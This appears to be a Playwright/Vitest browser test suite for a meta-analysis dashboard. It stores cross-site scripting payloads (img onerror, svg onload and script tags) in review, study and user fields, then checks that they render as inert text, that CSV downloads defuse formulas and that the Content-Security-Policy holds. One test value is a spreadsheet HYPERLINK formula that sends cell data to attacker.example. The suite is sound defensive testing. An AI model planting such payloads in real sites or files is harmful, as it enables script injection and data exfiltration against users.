// Stored cross-site scripting and spreadsheet formulas, from the outside: script payloads planted through the API's
// mutations in everything a user can store (review title, outcome name, study labels, a row label, subgroup names, a
// GRADE footnote, a retraction reason, and so the change summaries that quote them; a person's display name, shown in
// the header, on the team page and as the author of a change), then every study hovered in the
// forest, funnel, cumulative and sequential analysis charts and every point of the evidence timeline, and the CSV
// downloads opened. Nothing runs; the payloads read as text. Then the same pages under the Content-Security-Policy
// the API sends: no violation.
import { mkdirSync, readFileSync } from 'node:fs';
import { escapeHtml } from '@cumulus/text';
import { parse } from 'csv-parse/sync';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fitted, FOREST_LABEL_CHARACTERS } from '../../src/charts/forest-plot-option';
import { startsFormula } from '../../src/download/formula-payloads';
import { browserSuiteSkipReason, startApi, type RunningApi } from './api-server';
import { artifacts, desktop, launchChromium, openPage, type WatchedPage } from './browser';

const skipReason = browserSuiteSkipReason();

/** The dashboard's policy (issue 10), as the API sends it with every page of the dashboard. */
export const DASHBOARD_CSP =
  "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self'; connect-src 'self' ws: wss:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

// Each payload counts in window.__pwned if it ever runs.
const img = '<img src=x onerror="window.__pwned=(window.__pwned||0)+1">';
const svg = '"><svg onload="window.__pwned=(window.__pwned||0)+1">';
const script = '<script>window.__pwned=(window.__pwned||0)+1</script>';
const typed = {
  review: `Hardening ${img}`,
  question: `Does it run? ${script}`,
  outcome: `Deaths ${img}`,
  adams: `Adams 2001 ${img}`,
  brown: `Brown ${svg} 2005`,
  cole: `Cole & <b>Co</b> 2010`,
  // A formula too: the CSV downloads must not run it.
  evans: `=HYPERLINK("http://attacker.example/?"&A1,"Evans 2012 ${img}")`,
  retracted: `Fox 2014 ${img}`,
  rowLabel: `high dose ${img}`,
  subgroup: `6 months ${svg}`,
  otherSubgroup: `-12 months ${script}`,
  footnote: `Indirect population ${img}`,
  retraction: `+duplicate cohort ${script}`,
  country: '＝1+1',
} as const;

interface Payload {
  errors?: { field: string[]; message: string }[];
}

async function download(page: Page, trigger: () => Promise<void>): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([page.waitForEvent('download'), trigger()]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path()).toString('utf8').replace(/^\uFEFF/, '') };
}

/** The CSV's cells: none starts a formula unless it is a number the table writes as a number. */
function expectDefused(csv: string): string[][] {
  const rows: string[][] = parse(csv);
  for (const cell of rows.flat()) if (!/^-?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell)) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
  return rows;
}

/** The chart's tooltip element (ECharts puts it in the chart's box). */
const tooltipOf = (chart: Locator) => chart.locator('div[style*="z-index: 9999999"]');

/**
 * Where the chart answers the pointer with a tooltip, one point per item: a synthetic pointer swept over the chart in
 * the page (thousands of moves, fast) notes where each new tooltip appeared.
 */
async function hoverSpots(chart: Locator, step = 3): Promise<{ x: number; y: number; text: string }[]> {
  return chart.evaluate((box, step) => {
    const rect = box.getBoundingClientRect();
    const surface = box.querySelector('canvas, svg') ?? box;
    const spots: { x: number; y: number; text: string }[] = [];
    let last = '';
    for (let y = rect.top + 1; y < rect.bottom - 1; y += step) {
      for (let x = rect.left + 1; x < rect.right - 1; x += step) {
        surface.dispatchEvent(new MouseEvent('mousemove', { clientX: x, clientY: y, bubbles: true }));
        const tip = [...box.querySelectorAll('div')].find((div) => div.style.zIndex === '9999999');
        const html = tip && tip.style.display !== 'none' ? tip.innerHTML : '';
        if (html && html !== last && !spots.some((s) => s.text === tip!.textContent)) spots.push({ x, y, text: tip!.textContent ?? '' });
        last = html;
      }
    }
    box.dispatchEvent(new MouseEvent('mouseout', { bubbles: true }));
    return spots;
  }, step);
}

/**
 * Hovers each item with the real mouse; returns each tooltip's text, checking none holds an element a payload made.
 * With `screenshot`, the chart is saved there showing the first tooltip that quotes a payload.
 */
async function hoverEach(page: Page, chart: Locator, screenshot?: string): Promise<string[]> {
  await chart.scrollIntoViewIfNeeded();
  await chart.locator('canvas, svg').first().waitFor();
  const spots = await hoverSpots(chart);
  const tooltip = tooltipOf(chart);
  const shown: string[] = [];
  for (const spot of spots) {
    await page.mouse.move(spot.x, spot.y);
    await expect.poll(async () => ((await tooltip.count()) > 0 ? tooltip.first().textContent() : '')).toBe(spot.text);
    expect(await tooltip.first().locator('img, svg, script, b, iframe').count()).toBe(0);
    if (screenshot && spot.text.includes('<') && !shown.some((text) => text.includes('<'))) await chart.screenshot({ path: screenshot });
    shown.push(spot.text);
  }
  await page.mouse.move(0, 0);
  return shown;
}

const svgElements = new Set(['svg', 'g', 'path', 'rect', 'text', 'tspan', 'defs', 'clipPath', 'style', 'polygon', 'polyline', 'line', 'circle']);
const elementsIn = (markup: string) => [...markup.matchAll(/<([A-Za-z][\w:-]*)/g)].map(([, name]) => name);

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);

describe.skipIf(skipReason !== null)('stored cross-site scripting and formulas in Chromium', { timeout: 120_000 }, () => {
  let api: RunningApi;
  let browser: Browser;
  let context: BrowserContext;
  let reviewId: string;
  let outcomeId: string;

  async function write<T extends Payload>(query: string, input: Record<string, unknown>): Promise<T> {
    const data = await api.graphql<Record<string, T>>(query, { input });
    const payload = Object.values(data)[0];
    expect(payload.errors).toEqual([]);
    return payload;
  }

  beforeAll(async () => {
    mkdirSync(artifacts, { recursive: true });
    api = await startApi();
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true, viewport: desktop });

    reviewId = (
      await write<{ review: { id: string } } & Payload>('mutation($input: CreateReviewInput!) { createReview(input: $input) { review { id } errors { field message } } }', {
        title: typed.review,
        question: typed.question,
      })
    ).review.id;
    outcomeId = (
      await write<{ outcome: { id: string } } & Payload>('mutation($input: AddOutcomeInput!) { addOutcome(input: $input) { outcome { id } errors { field message } } }', {
        reviewId,
        name: typed.outcome,
        measure: 'RR',
        model: 'FIXED',
        method: 'MH',
      })
    ).outcome.id;
    // Cole's three-arm trial shares its control between two rows (a unit-of-analysis note that quotes the row labels).
    await write('mutation($input: RecordStudyDataTableInput!) { recordStudyDataTable(input: $input) { outcome { id } errors { field message } } }', {
      outcomeId,
      newStudies: [
        { label: typed.adams, design: 'RCT', year: 2001, country: typed.country },
        { label: typed.brown, design: 'RCT', year: 2005 },
        { label: typed.cole, design: 'RCT', year: 2010 },
        { label: typed.evans, design: 'RCT', year: 2012 },
        { label: typed.retracted, design: 'RCT', year: 2014 },
      ],
      rows: [
        { studyLabel: typed.adams, subgroup: typed.subgroup, events1: 10, n1: 100, events2: 18, n2: 100 },
        { studyLabel: typed.brown, subgroup: typed.otherSubgroup, events1: 20, n1: 150, events2: 26, n2: 148 },
        { studyLabel: typed.cole, label: typed.rowLabel, subgroup: typed.subgroup, events1: 8, n1: 60, events2: 14, n2: 58 },
        { studyLabel: typed.cole, label: 'low dose', subgroup: typed.subgroup, events1: 11, n1: 62, events2: 14, n2: 58 },
        { studyLabel: typed.evans, subgroup: typed.otherSubgroup, events1: 30, n1: 300, events2: 41, n2: 298 },
        { studyLabel: typed.retracted, subgroup: typed.otherSubgroup, events1: 5, n1: 80, events2: 9, n2: 80 },
      ],
    });
    // The trial sequential analysis is drawn once its assumptions are stated.
    await write('mutation($input: SetSequentialAssumptionsInput!) { setSequentialAssumptions(input: $input) { outcome { id } errors { field message } } }', { outcomeId, relativeRiskReduction: 0.2 });
    await write('mutation($input: OverrideCertaintyDomainInput!) { overrideCertaintyDomain(input: $input) { outcome { id } errors { field message } } }', {
      outcomeId,
      domain: 'INDIRECTNESS',
      rating: -1,
      footnote: typed.footnote,
    });
    const { review } = await api.graphql<{ review: { studies: { id: string; label: string }[] } }>('query($id: ID!) { review(id: $id) { studies { id label } } }', { id: reviewId });
    await write('mutation($input: RetractStudyInput!) { retractStudy(input: $input) { errors { field message } } }', {
      studyId: review.studies.find((s) => s.label === typed.retracted)!.id,
      reason: typed.retraction,
    });
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    await api?.stop();
  });

  it('shows every payload on the outcome page as text, in every chart tooltip, and runs none', async () => {
    const page = await openPage(context, `${api.url}/outcomes/${outcomeId}`);
    await page.locator('[data-test=pooled-estimate]').waitFor();
    expect(await page.locator('h1').textContent()).toContain(typed.outcome);
    const chart = (label: string) => page.locator(`.chart[aria-label^="${label}"]`);

    const forest = await hoverEach(page, chart('Forest plot'), `${artifacts}stored-xss-forest-tooltip.png`);
    const rows = [typed.adams, `${typed.cole} (${typed.rowLabel})`, `${typed.cole} (low dose)`, typed.brown, typed.evans];
    for (const row of rows) expect(forest.some((text) => text.startsWith(row)), row).toBe(true);
    expect(forest).toHaveLength(rows.length);
    // The unit-of-analysis note on Cole's rows quotes the row label.
    expect(forest.find((text) => text.startsWith(`${typed.cole} (${typed.rowLabel})`))).toContain('†');

    const studies = [typed.adams, typed.brown, typed.cole, typed.evans];
    const funnel = await hoverEach(page, chart('Funnel plot'), `${artifacts}stored-xss-funnel-tooltip.png`);
    for (const study of studies) expect(funnel.some((text) => text.startsWith(study)), study).toBe(true);
    const tsa = await hoverEach(page, chart('Trial sequential analysis'), `${artifacts}stored-xss-tsa-tooltip.png`);
    for (const study of studies) expect(tsa.some((text) => text.startsWith(study)), study).toBe(true);
    const cumulative = await hoverEach(page, chart('Cumulative meta-analysis'), `${artifacts}stored-xss-cumulative-tooltip.png`);
    for (const study of studies) expect(cumulative.some((text) => text.includes(` to ${study}`)), study).toBe(true);
    // The change summaries quote the outcome name, the GRADE footnote and the retraction reason.
    const timeline = await hoverEach(page, chart('Pooled estimate at every version'), `${artifacts}stored-xss-timeline-tooltip.png`);
    for (const quoted of [typed.outcome, typed.footnote, typed.retraction]) expect(timeline.some((text) => text.includes(quoted)), quoted).toBe(true);

    const text = await page.locator('main').innerText();
    for (const shown of [typed.outcome, typed.subgroup, typed.footnote, typed.rowLabel]) expect(text, shown).toContain(shown);
    // The forest plot's columns (labels, subgroup headings) are canvas text: its SVG download writes them as text, a
    // label longer than its column cut with an ellipsis (the tooltips above give it whole).
    const forestSvg = (await download(page, () => page.locator('[data-test=download-svg]').first().click())).text;
    for (const drawn of [typed.subgroup, typed.otherSubgroup, typed.adams, typed.brown, typed.cole, typed.evans]) expect(forestSvg, drawn).toContain(escapeHtml(fitted(drawn, FOREST_LABEL_CHARACTERS)));
    expect(elementsIn(forestSvg).filter((name) => !svgElements.has(name))).toEqual([]);
    await page.waitForTimeout(300); // an injected image would have failed to load by now
    expect(await pwned(page)).toBeUndefined();
    expect(await page.locator('img[src="x"], svg[onload], script:not([src])').count()).toBe(0);
    await chart('Forest plot').scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${artifacts}stored-xss-outcome.png`, fullPage: true });
    expect(page.problems).toEqual([]);
    await page.close();
  });

  it('shows every payload on the review page as text (title, question, studies, retraction, changes), and runs none', async () => {
    const page = await openPage(context, `${api.url}/reviews/${reviewId}`);
    await page.locator('[data-test=study-row]').first().waitFor();
    expect(await page.locator('h1').textContent()).toContain(typed.review);
    expect(await page.locator('[data-test=retraction]').textContent()).toBe(`Retracted: ${typed.retraction}`);
    const text = await page.locator('main').innerText();
    for (const shown of [typed.question, typed.outcome, typed.adams, typed.brown, typed.cole, typed.evans, typed.retracted, typed.country]) expect(text, shown).toContain(shown);
    // The latest changes quote the GRADE footnote and the retraction reason.
    expect(text).toContain(`: ${typed.footnote}`);
    expect(text).toContain(`: ${typed.retraction}`);
    await page.waitForTimeout(300);
    expect(await pwned(page)).toBeUndefined();
    expect(await page.locator('img[src="x"], svg[onload], script:not([src])').count()).toBe(0);
    await page.screenshot({ path: `${artifacts}stored-xss-review.png`, fullPage: true });
    expect(page.problems).toEqual([]);
    await page.close();
  });

  it("shows a person's display name with markup as text in the header, on the team page and in the change log, and runs none", async () => {
    const name = `Dr ${img}`;
    const email = 'markup@uni.example';
    const password = 'correct horse battery';
    const { createUser } = await api.graphql<{ createUser: { user: { id: string }; errors: { message: string }[] } }>(
      'mutation($input: CreateUserInput!) { createUser(input: $input) { user { id } errors { message } } }',
      { input: { email, displayName: name, password } },
    );
    expect(createUser.errors).toEqual([]);
    const { setMemberRoles } = await api.graphql<{ setMemberRoles: { errors: { message: string }[] } }>(
      'mutation($input: SetMemberRolesInput!) { setMemberRoles(input: $input) { roles errors { message } } }',
      { input: { reviewId, userId: createUser.user.id, roles: ['OWNER'] } },
    );
    expect(setMemberRoles.errors).toEqual([]);
    const own = await browser.newContext({ viewport: desktop });
    try {
      const page = await openPage(own, `${api.url}/sign-in?back=${encodeURIComponent(`/reviews/${reviewId}/team`)}`);
      await page.getByLabel('Email').fill(email);
      await page.getByLabel('Password').fill(password);
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page.waitForURL(`${api.url}/reviews/${reviewId}/team`);
      await expect.poll(() => page.locator('header').innerText()).toContain(name);
      await expect.poll(() => page.locator('main').innerText()).toContain(name);
      // A change made in their name: the review page's latest changes name them.
      const renamed = await page.evaluate(async ({ id, csrfHeader }) => {
        const me = (await (await fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ me { antiForgeryToken } }' }) })).json()) as { data: { me: { antiForgeryToken: string } } };
        const response = await fetch('/graphql', {
          method: 'POST',
          headers: { 'content-type': 'application/json', [csrfHeader]: me.data.me.antiForgeryToken },
          body: JSON.stringify({ query: 'mutation($input: OpenUpdateRoundInput!) { openUpdateRound(input: $input) { round { number } errors { message } } }', variables: { input: { reviewId: id } } }),
        });
        return ((await response.json()) as { data: { openUpdateRound: { errors: unknown[] } } }).data.openUpdateRound.errors;
      }, { id: reviewId, csrfHeader: 'x-csrf-token' });
      expect(renamed).toEqual([]);
      await page.goto(`${api.url}/reviews/${reviewId}`);
      await expect.poll(() => page.locator('main').innerText(), { timeout: 15_000 }).toContain(`Opened update round 1 ('Update 1') (${name})`);
      await page.waitForTimeout(300);
      expect(await pwned(page)).toBeUndefined();
      expect(await page.locator('img[src="x"]').count()).toBe(0);
      expect(page.problems).toEqual([]);
    } finally {
      await own.close();
    }
  });

  it('downloads CSV files in which no cell starts a formula (forest data, leave-one-out, studies)', async () => {
    const page = await openPage(context, `${api.url}/outcomes/${outcomeId}`);
    await page.locator('[data-test=pooled-estimate]').waitFor();
    const forest = expectDefused((await download(page, () => page.locator('[data-test=download-csv]', { hasText: 'Forest data' }).click())).text);
    expect(forest.map((row) => row[0])).toContain(`'${typed.evans}`);
    expect(forest.map((row) => row[2])).toContain(`'${typed.otherSubgroup}`);
    const leaveOneOut = expectDefused((await download(page, () => page.locator('[data-test=download-csv]', { hasText: 'Leave-one-out' }).click())).text);
    expect(leaveOneOut.map((row) => row[0])).toContain(`'${typed.evans}`);
    await page.close();

    const review = await openPage(context, `${api.url}/reviews/${reviewId}`);
    await review.locator('[data-test=study-row]').first().waitFor();
    const studies = expectDefused((await download(review, () => review.locator('[data-test=download-csv]').click())).text);
    const header = studies[0];
    const evans = studies.find((row) => row[0] === `'${typed.evans}`)!;
    const fox = studies.find((row) => row[0] === typed.retracted)!;
    expect(fox[header.indexOf('Retraction reason')]).toBe(`'${typed.retraction}`);
    expect(evans).toBeDefined();
    expect(studies.find((row) => row[0] === typed.adams)![header.indexOf('Country')]).toBe(`'${typed.country}`);
    expect(await pwned(review)).toBeUndefined();
    await review.close();
  });

  it('works under the dashboard Content-Security-Policy: charts, tooltips, downloads, live updates, no violation', async () => {
    const strict = await browser.newContext({ acceptDownloads: true, viewport: desktop });
    const policies = new Map<string, string>();
    strict.on('response', (response) => void (response.request().resourceType() === 'document' && policies.set(response.url(), response.headers()['content-security-policy'] ?? '(none)')));
    // Reported to the test as they happen, so navigations lose none.
    const violations: string[] = [];
    await strict.exposeBinding('reportViolation', (_source, violation: string) => void violations.push(violation));
    await strict.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', (event) =>
        (window as unknown as { reportViolation: (v: string) => void }).reportViolation(`${event.effectiveDirective} blocked ${event.blockedURI} (${event.sourceFile}:${event.lineNumber})`),
      ),
    );

    const page: WatchedPage = await openPage(strict, `${api.url}/`);
    await page.locator('[data-test=review]').first().waitFor();
    await page.goto(`${api.url}/outcomes/${outcomeId}`);
    await page.locator('[data-test=pooled-estimate]').waitFor();
    // Every chart drawn, hovered, and downloaded (PNG is a data: URL, SVG and CSV are blobs).
    for (const label of ['Forest plot', 'Funnel plot', 'Trial sequential analysis', 'Cumulative meta-analysis', 'Pooled estimate at every version']) {
      const chart = page.locator(`.chart[aria-label^="${label}"]`);
      expect((await hoverEach(page, chart)).length, label).toBeGreaterThan(0);
    }
    const png = await download(page, () => page.locator('[data-test=download-png]').first().click());
    expect(png.name).toMatch(/-forest\.png$/);
    const svgFile = await download(page, () => page.locator('[data-test=download-svg]').first().click());
    expect(svgFile.text).toMatch(/^<svg/);
    await download(page, () => page.locator('[data-test=download-csv]', { hasText: 'Forest data' }).click());
    // A write arrives over the WebSocket (connect-src ws:).
    const { addStudy } = await api.graphql<{ addStudy: { study: { id: string } } }>('mutation($input: AddStudyInput!) { addStudy(input: $input) { study { id } } }', {
      input: { reviewId, label: 'Gray 2020', year: 2020 },
    });
    const { recordStudyData } = await api.graphql<{ recordStudyData: { outcome: { version: number } } }>(
      'mutation($input: RecordStudyDataInput!) { recordStudyData(input: $input) { outcome { version } } }',
      { input: { outcomeId, studyId: addStudy.study.id, events1: 12, n1: 120, events2: 20, n2: 120 } },
    );
    await expect.poll(() => page.locator('[data-test=version]').textContent(), { timeout: 10_000 }).toBe(`version ${recordStudyData.outcome.version}`);
    await page.goto(`${api.url}/reviews/${reviewId}`);
    await page.locator('[data-test=study-row]').first().waitFor();
    await download(page, () => page.locator('[data-test=download-csv]').click());
    await page.goto(`${api.url}/reviews/${reviewId}/summary-of-findings`);
    await page.locator('h1').waitFor();

    // The API's Summary of Findings download, under its own script-free policy, quotes the title and outcome as text.
    const sofHtml = `${api.url}/reviews/${reviewId}/summary-of-findings.html`;
    await page.goto(sofHtml);
    for (const shown of [typed.review, typed.outcome]) expect(await page.locator('body').innerText()).toContain(shown);
    expect(await page.locator('img, svg, script').count()).toBe(0);
    expect(await pwned(page)).toBeUndefined();

    // Every page of the dashboard came with the policy the dashboard was checked under.
    const dashboardPolicies = [...policies].filter(([url]) => url !== sofHtml).map(([, policy]) => policy);
    expect(dashboardPolicies.length).toBeGreaterThanOrEqual(4);
    for (const policy of dashboardPolicies) expect(policy).toBe(DASHBOARD_CSP);
    expect(policies.get(sofHtml)).toMatch(/^default-src 'none'/);
    expect(violations).toEqual([]);
    expect(page.problems).toEqual([]);
    // The policy is in force, and a violation would be seen: an inline script in the dashboard is refused.
    await page.goto(`${api.url}/reviews/${reviewId}`);
    await page.locator('[data-test=study-row]').first().waitFor();
    expect(await page.evaluate(() => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__inline = 1';
      document.head.append(inline);
      return (window as unknown as { __inline?: number }).__inline;
    })).toBeUndefined();
    await expect.poll(() => violations.length).toBe(1);
    expect(violations[0]).toMatch(/^script-src-elem blocked inline/);
    await strict.close();
  });
});
